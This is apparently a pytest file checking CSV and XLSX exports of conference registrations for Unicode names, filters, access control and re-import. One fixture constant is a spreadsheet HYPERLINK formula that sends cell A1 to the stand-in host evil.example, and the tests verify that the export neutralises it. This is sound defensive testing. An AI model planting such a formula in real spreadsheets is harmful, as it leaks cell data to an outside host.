"""Exports of registrations: names intact in Excel, no formula injection, filtered as the list, re-importable."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from core.auth.models import User
from core.extensions import db
from registration.models import Attendance, Category, Registration
from registration.services import REGISTRATION_FIELDS
from registration.spreadsheets import EXPORT_COLUMNS
from tests.registration.sheets import upload

NAME = "Nguyễn Tường Văn"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def organiser(make_user, token_for):
    return token_for(make_user("secretariat@moc.gov.vn", roles=["organiser"], full_name="Lê Hoàng Trung"))


@pytest.fixture
def delegation(make_event, make_user, make_registration):
    """An event with delegates of three countries, in several states."""
    event = make_event()
    people = [
        ("van@moc.gov.vn", NAME, "VN", "approved", {"organisation": FORMULA, "dietary": "-không hải sản"}),
        ("trung@hanoi.gov.vn", "Lê Hoàng Trung", "VN", "pending", {"category": Category.CITY, "language": "vi"}),
        ("somchai@bangkok.go.th", "Somchai Chaiyaporn", "TH", "approved", {"attendance": Attendance.ONLINE}),
        ("lim@asean.org", "Dato Lim Jock Hoi", "BN", "waitlisted", {"category": Category.ASEAN_SECRETARIAT}),
    ]
    for email, name, country, status, extra in people:
        language = extra.pop("language", "en")
        user = make_user(email, full_name=name, language=language)
        fields = {"waitlist_position": 1} if status == "waitlisted" else {}
        make_registration(event, user, status, country=country, city="Đà Nẵng", **fields, **extra)
    return event


def export(client, headers, event, file_format="csv", **filters):
    return client.get(f"/api/v1/events/{event.id}/registrations.{file_format}", headers=headers, query_string=filters)


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[dict]:
    sheet = load_workbook(io.BytesIO(response.get_data()), read_only=True).worksheets[0]
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_the_csv_export_keeps_names_intact_for_excel_and_guards_formulas(client, organiser, delegation):
    response = export(client, organiser, delegation)

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f"attachment; filename=registrations-{delegation.slug}.csv"
    assert response.headers["Cache-Control"] == "no-store"
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    assert NAME.encode() in raw
    header = next(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert header == list(EXPORT_COLUMNS)
    # API.md: `email` and the registration's field names (and `language`); then what an import ignores.
    assert set(header[:-3]) == {"email", "language"} | REGISTRATION_FIELDS
    assert (header[:2], header[-3:]) == (["email", "full_name"], ["status", "waitlist_position", "created_at"])
    rows = {row["email"]: row for row in csv_rows(response)}
    assert list(rows) == ["lim@asean.org", "trung@hanoi.gov.vn", "van@moc.gov.vn", "somchai@bangkok.go.th"]
    van = rows["van@moc.gov.vn"]
    assert van["full_name"] == NAME
    assert van["organisation"] == "'" + FORMULA  # Excel shows it as text, and never runs it
    assert van["dietary"] == "'-không hải sản"
    assert (van["status"], van["consent_data_processing"], van["consent_lead_sharing"]) == ("approved", "yes", "no")
    assert (van["city"], van["country"], van["waitlist_position"]) == ("Đà Nẵng", "VN", "")
    assert van["created_at"].endswith("+00:00")
    assert rows["lim@asean.org"]["waitlist_position"] == "1"
    assert rows["trung@hanoi.gov.vn"]["language"] == "vi"


def test_the_xlsx_export_keeps_names_and_holds_formulas_as_text(client, organiser, delegation):
    response = export(client, organiser, delegation, "xlsx")

    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = {row["email"]: row for row in xlsx_rows(response)}
    van = rows["van@moc.gov.vn"]
    assert (van["full_name"], van["organisation"], van["dietary"]) == (NAME, FORMULA, "-không hải sản")
    assert (van["consent_data_processing"], van["waitlist_position"]) == (True, None)
    assert rows["lim@asean.org"]["waitlist_position"] == 1
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula cell anywhere (openpyxl writes "=..." as <f>...</f> unless told)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_re_imports_as_it_is_and_round_trips_the_names(client, organiser, delegation, file_format):
    exported = export(client, organiser, delegation, file_format)
    before = {registration.id: registration.full_name for registration in db.session.scalars(select(Registration))}

    again = upload(client, organiser, delegation.id, exported.get_data(), filename=f"export.{file_format}")

    assert again.status_code == 200, again.get_json()
    assert again.get_json() == {"created": 0, "updated": 4}
    db.session.expire_all()
    after = {registration.id: registration.full_name for registration in db.session.scalars(select(Registration))}
    assert after == before
    assert NAME in after.values()
    van = db.session.scalar(select(Registration).join(User).where(User.email == "van@moc.gov.vn"))
    assert (van.organisation, van.dietary) == (FORMULA, "-không hải sản")
    reexported = export(client, organiser, delegation, file_format)
    assert reexported.get_data() == exported.get_data() or file_format == "xlsx"  # XLSX zips carry a timestamp
    if file_format == "xlsx":
        assert xlsx_rows(reexported) == xlsx_rows(exported)


def test_exports_are_filtered_like_the_list_and_limited_to_the_focal_points_country(
    client, organiser, delegation, make_user, token_for
):
    def emails(response):
        return sorted(row["email"] for row in csv_rows(response))

    assert emails(export(client, organiser, delegation, status="approved")) == [
        "somchai@bangkok.go.th",
        "van@moc.gov.vn",
    ]
    assert emails(export(client, organiser, delegation, category="asean_secretariat")) == ["lim@asean.org"]
    assert emails(export(client, organiser, delegation, country="th")) == ["somchai@bangkok.go.th"]
    assert emails(export(client, organiser, delegation, q="nguyen tuong")) == ["van@moc.gov.vn"]
    assert export(client, organiser, delegation, status="maybe").status_code == 422

    focal_vn = token_for(make_user("focal.vn@moc.gov.vn", roles=["focal_point"], country="VN"))
    assert emails(export(client, focal_vn, delegation)) == ["trung@hanoi.gov.vn", "van@moc.gov.vn"]
    assert emails(export(client, focal_vn, delegation, country="TH")) == []
    names = [row["full_name"] for row in xlsx_rows(export(client, focal_vn, delegation, "xlsx"))]
    assert names == ["Lê Hoàng Trung", NAME]


def test_who_may_export(client, delegation, make_user, token_for, make_event, sign_in):
    delegate = token_for(make_user("delegate@danang.gov.vn"))
    focal_vn = token_for(make_user("focal.vn@moc.gov.vn", roles=["focal_point"], country="VN"))
    draft = make_event(status="draft")
    for file_format in ("csv", "xlsx"):
        assert export(client, {}, delegation, file_format).status_code == 401
        assert export(client, delegate, delegation, file_format).status_code == 403
        assert export(client, focal_vn, draft, file_format).status_code == 404
    assert client.get("/api/v1/events/999999/registrations.csv", headers=focal_vn).status_code == 404


def test_a_signed_in_browser_exports_through_the_cookie_twins_only(client, make_user, sign_in, delegation):
    make_user("secretariat@moc.gov.vn", roles=["organiser"])
    sign_in("secretariat@moc.gov.vn")
    for file_format in ("csv", "xlsx"):
        page_export = client.get(f"/events/{delegation.id}/registrations.{file_format}?country=VN")
        assert page_export.status_code == 200
        assert page_export.headers["Content-Disposition"].startswith("attachment; ")
        # The API takes bearer tokens only, so another site cannot use the browser's cookie there.
        assert client.get(f"/api/v1/events/{delegation.id}/registrations.{file_format}").status_code == 401
    rows = csv_rows(client.get(f"/events/{delegation.id}/registrations.csv?country=VN"))
    assert sorted(row["full_name"] for row in rows) == ["Lê Hoàng Trung", NAME]
    assert client.get(f"/events/{delegation.id}/registrations.csv?status=maybe").status_code == 400


def test_pages_of_the_export_turn_away_delegates_and_visitors(client, make_user, sign_in, delegation):
    anonymous = client.get(f"/events/{delegation.id}/registrations.csv")
    assert anonymous.status_code == 302
    assert "/sign-in" in anonymous.headers["Location"]
    make_user("delegate@danang.gov.vn")
    sign_in("delegate@danang.gov.vn")
    assert client.get(f"/events/{delegation.id}/registrations.csv").status_code == 403
    assert client.get(f"/events/{delegation.id}/registrations.xlsx").status_code == 403
